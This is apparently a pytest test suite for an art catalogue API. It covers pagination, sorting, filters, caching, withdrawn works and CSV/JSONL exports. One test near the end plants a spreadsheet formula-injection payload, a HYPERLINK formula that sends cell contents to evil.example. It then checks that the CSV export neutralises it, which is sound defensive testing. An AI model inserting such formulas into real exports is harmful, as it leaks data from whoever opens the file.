import csv
import io
import json

import pytest

from stylesearch.catalog.access import Access
from stylesearch.catalog.collections import set_visibility


def test_works_are_listed_page_by_page_each_once(api):
    first = api.get("works?limit=7")
    assert len(first.json["items"]) == 7
    total = first.json["total"]
    assert total == 30
    assert first.headers["Link"] == f'<{first.json["next"]}>; rel="next"'
    ids = [work["work_id"] for work in api.every("works?limit=7")]
    assert len(ids) == total
    assert ids == sorted(set(ids))


@pytest.mark.parametrize("sort", ["id", "title", "year", "-year", "added", "-added"])
def test_every_order_goes_through_all_works(api, sort):
    works = list(api.every(f"works?limit=4&sort={sort}"))
    assert len({work["work_id"] for work in works}) == len(works) == 30
    if sort == "title":
        titles = [work["title"].lower() for work in works]
        assert titles == sorted(titles)


def test_works_of_unknown_years_come_last_from_either_end(api, catalogue):
    first = catalogue.first_work()
    others = [work["work_id"] for work in api.every("works")][1:4]
    for number, work_id in enumerate([first, *others]):
        catalogue.change(work_id, year_from=1800 + number, year_to=1810 + number)
    dated = [first, *others]
    undated = [work["work_id"] for work in api.every("works")][4:6]
    for work_id in undated:
        catalogue.change(work_id, date_text=None, year_from=None, year_to=None)
    forth = [work["work_id"] for work in api.every("works?sort=year&limit=3")]
    back = [work["work_id"] for work in api.every("works?sort=-year&limit=3")]
    assert forth[:4] == dated
    assert back[-6:-2] == dated[::-1]
    assert forth[-2:] == back[-2:] == undated


def test_a_page_past_the_end_is_empty(api):
    last = [work["work_id"] for work in api.every("works")][-1]
    page = api.told(f"works?after={last}")
    assert (page["items"], page["next"]) == ([], None)
    assert api.told(f"works?after={2**63 - 1}")["items"] == []
    api.refused(f"works?sort=title&after={2**63 - 1}", 400, "bad_cursor")


def test_works_under_a_filter(api):
    artist = api.told("artists")["items"][0]
    works = list(api.every(f"works?limit=2&q=artist:%22{artist['name']}%22"))
    assert len(works) == artist["works"]
    assert all(artist["name"] in work["artists"] for work in works)
    assert api.told("works?q=reuse:open&q=reuse:permission")["total"] == 0
    api.refused("works?q=artist:nobody", 404, "unknown_artist")
    problem = api.refused("works?q=artits:x", 400, "unknown_filter")
    assert problem["place"].endswith("^")
    assert "artist" in problem["hint"]


def test_a_work_tells_all_of_itself(api, catalogue):
    work_id = catalogue.first_work()
    work = api.told(f"works/{work_id}")
    assert [image["sha256"] for image in work["images"]] == [catalogue.digest(work_id)]
    assert work["credits"][0]["name"] in work["artists"][0]
    assert api.told(work["credits"][0]["url"])["name"] == work["credits"][0]["name"]
    for name in ("page", "thumbnail", "image"):
        answer = api.client.get(work["links"][name])
        assert answer.status_code == 200, name
        answer.close()
    assert api.told(work["links"]["url"]) == work
    api.told(work["links"]["manifest"])


@pytest.mark.parametrize("address", ["works/999999999", f"works/{2**63 - 1}"])
def test_a_work_that_is_not_there(api, address):
    problem = api.refused(address, 404, "unknown_work")
    assert problem["hint"]


@pytest.mark.parametrize(
    "address", ["/api/v1/works/0", "/api/v1/works/-1", f"/api/v1/works/{2**63}", "/api/v1/nothing"]
)
def test_an_address_that_leads_nowhere_is_a_problem_document_whatever_is_preferred(client, address):
    for accept in ("text/html", "*/*", "application/json"):
        answer = client.get(address, headers={"Accept": accept})
        assert (answer.status_code, answer.mimetype) == (404, "application/problem+json")
        assert answer.json["code"] == "not_found"


@pytest.mark.parametrize(
    ("parameters", "code", "place"),
    [
        ("limit=0", "bad_parameter", "limit"),
        ("limit=1000000", "bad_parameter", "limit"),
        ("limit=many", "bad_parameter", "limit"),
        ("limit=2&limit=3", "bad_parameter", None),
        ("after=-1", "bad_parameter", "after"),
        (f"after={2**63}", "bad_parameter", "after"),
        ("sort=style", "bad_parameter", "sort"),
        ("format=xml", "bad_parameter", "format"),
        ("page=2", "unknown_parameter", None),
        ("q=%00", "bad_parameter", "q.0"),
        ("q=text:%22", "filter_syntax", None),
        ("q=" + "(" * 100, "filter_too_large", None),
        ("q=" + "x" * 5000, "filter_syntax", None),
    ],
)
def test_parameters_that_cannot_be_used_are_named(api, parameters, code, place):
    problem = api.refused(f"works?{parameters}", 400, code)
    if place is not None:
        assert problem["errors"][0]["where"] == place


def test_an_answer_that_is_still_right_is_not_sent_again(api, catalogue):
    for address in ("works?limit=2", f"works/{catalogue.first_work()}", "artists", "openapi.json", ""):
        first = api.get(address)
        assert first.headers["ETag"]
        assert "Authorization" in first.vary
        again = api.get(address, headers={"If-None-Match": first.headers["ETag"]})
        assert again.status_code == 304
        assert again.headers["ETag"] == first.headers["ETag"]
        assert api.get(address, headers={"If-None-Match": '"other"'}).status_code == 200
    work = catalogue.first_work()
    before = api.get(f"works/{work}").headers["ETag"]
    catalogue.change(work, title="Changed")
    assert api.get(f"works/{work}", headers={"If-None-Match": before}).status_code == 200


def test_what_may_not_be_seen_is_nowhere(api, archive, catalogue):
    work = catalogue.first_work()
    artist = api.told(f"works/{work}")["credits"][0]
    counted = api.told(artist["url"])["works"]
    catalogue.withdraw(work)
    api.refused(f"works/{work}", 404, "unknown_work")
    api.refused(f"works/{work}/manifest", 404, "unknown_work")
    assert work not in [one["work_id"] for one in api.every("works")]
    assert api.told(artist["url"])["works"] == counted - 1
    assert str(work) not in [line.split(",")[0] for line in api.get("works?format=csv").text.splitlines()]
    catalogue.restore()
    try:
        with archive.database.session() as session:
            set_visibility(session, "drawn", Access.STAFF)
        assert api.told("works")["total"] == 0
        assert api.told("artists")["total"] == 0
        assert api.told("collections")["items"] == []
        api.refused("collections/drawn", 404, "unknown_collection")
        api.refused("collections/drawn/manifests", 404, "unknown_collection")
        api.refused("works?q=collection:drawn", 404, "unknown_collection")
        api.refused(f"works/{work}", 404, "unknown_work")
        api.refused(f"artists/{artist['artist_id']}", 404, "unknown_artist")
        api.refused(f"search?like=work:{work}", 404, "unknown_work")
        assert len(api.get("works?format=jsonl").data) == 0
        assert b"noRecordsMatch" in api.get("oai?verb=ListRecords&metadataPrefix=oai_dc").data
    finally:
        with archive.database.session() as session:
            set_visibility(session, "drawn", Access.EVERYBODY)


def test_all_works_as_csv(api):
    answer = api.get("works?format=csv&limit=1")
    assert answer.mimetype == "text/csv"
    assert answer.headers["Content-Disposition"] == "attachment; filename=works.csv"
    rows = list(csv.DictReader(io.StringIO(answer.text)))
    works = list(api.every("works"))
    assert [int(row["work_id"]) for row in rows] == [work["work_id"] for work in works]
    for row, work in zip(rows, works, strict=True):
        assert row["title"] == work["title"]
        assert row["artists"] == "; ".join(work["artists"])
        assert row["image_rights_uri"] == (work["image_rights"]["uri"] or "")
        assert row["link_page"] == work["links"]["page"]
        assert None not in row


def test_all_works_as_json_lines(api):
    answer = api.get("works?format=jsonl&sort=title&q=has:image")
    assert answer.mimetype == "application/x-ndjson"
    lines = [json.loads(line) for line in answer.text.splitlines()]
    assert lines == list(api.every("works?sort=title&q=has:image&limit=9"))


def test_a_spreadsheet_takes_no_cell_for_a_formula(api, catalogue):
    work = catalogue.first_work()
    catalogue.change(
        work,
        title='=HYPERLINK("http://evil.example/?"&A1)',
        medium="+1",
        movement="@SUM(1)",
        period="-2",
        description='\ttab, "quoted"\nand a line',
        year_from=-500,
        year_to=-400,
    )
    rows = list(csv.DictReader(io.StringIO(api.get("works?format=csv", headers={}).text, newline="")))
    row = next(row for row in rows if int(row["work_id"]) == work)
    assert row["title"] == '\'=HYPERLINK("http://evil.example/?"&A1)'
    assert (row["medium"], row["movement"], row["period"]) == ("'+1", "'@SUM(1)", "'-2")
    assert row["description"] == '\'\ttab, "quoted"\nand a line'
    assert (row["year_from"], row["year_to"]) == ("-500", "-400")  # numbers are none


def test_an_error_before_the_first_row_of_an_export_is_answered_as_one(api):
    api.refused("works?format=csv&q=artist:nobody", 404, "unknown_artist")
    api.refused("works?format=jsonl&q=year:x", 400, "bad_year")
